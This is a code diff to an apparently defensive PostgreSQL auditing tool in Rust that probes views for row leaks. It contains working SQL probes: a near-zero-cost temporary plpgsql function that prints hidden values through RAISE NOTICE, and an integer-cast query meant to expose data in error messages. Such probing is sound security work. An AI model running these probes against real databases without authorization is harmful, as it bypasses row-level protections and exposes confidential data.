@@ -175,9 +175,12 @@ async fn leaky<'w>(arena: &mut Arena<'w, '_>, relation: &'w Relation, found: &mu
     if relation.has_option("security_invoker") || relation.has_option("security_barrier") {
         return;
     }
-    let own = ["create function pg_temp.peek(text) returns boolean language plpgsql cost 0.0000001 as \
+    let own = [
+        super::read::NO_INDEX.to_owned(),
+        "create function pg_temp.peek(text) returns boolean language plpgsql cost 0.0000001 as \
          $peek$ begin raise notice '%', $1; return true; end $peek$"
-        .to_owned()];
+            .to_owned(),
+    ];
     let table = relation.name.quoted();
     let guise = arena.guise.clone();
     let columns = arena.actor.columns(relation, "SELECT").into_iter().take(12).filter_map(|name| relation.column(name));
@@ -190,8 +193,8 @@ async fn leaky<'w>(arena: &mut Arena<'w, '_>, relation: &'w Relation, found: &mu
         let (outcome, _) = arena.after(&[], &guise, &own, &peek, None).await;
         tried.push((own.to_vec(), peek, outcome));
         let number = format!("select 1 from {table} t where (t.{column}{cast})::integer = 1");
-        let outcome = arena.as_a(&number).await;
-        tried.push((Vec::new(), number, outcome));
+        let (outcome, _) = arena.after(&[], &guise, &own[..1], &number, None).await;
+        tried.push((own[..1].to_vec(), number, outcome));
     }
     let Some((own, sql, sight)) =
         tried.into_iter().find_map(|(own, sql, outcome)| arena.sight(&sql, &outcome).map(|sight| (own, sql, sight)))
